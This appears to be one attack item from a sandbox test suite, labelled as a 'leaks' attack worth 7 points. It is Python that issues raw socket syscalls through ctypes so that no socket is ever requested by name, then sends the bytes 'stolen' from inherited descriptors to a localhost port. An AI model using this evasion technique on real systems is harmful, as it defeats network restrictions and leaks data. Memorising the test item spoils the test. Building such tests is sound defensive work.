# attack: sends a datagram without ever asking for a socket by name
# family: leaks
# base: solved
# points: 7
# %% last
import ctypes, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
address = struct.pack("<H", 2) + struct.pack(">H4s8s", PORT, bytes([127, 0, 0, 1]), b"")
pair = (ctypes.c_int * 2)()
libc.syscall(53, 2, 2, 0, pair)
for descriptor in (*range(3, 64), *pair):
    libc.syscall(44, descriptor, b"stolen", 6, 0, address, len(address))
    libc.syscall(49, descriptor, address, len(address))
    libc.syscall(42, descriptor, address, len(address))
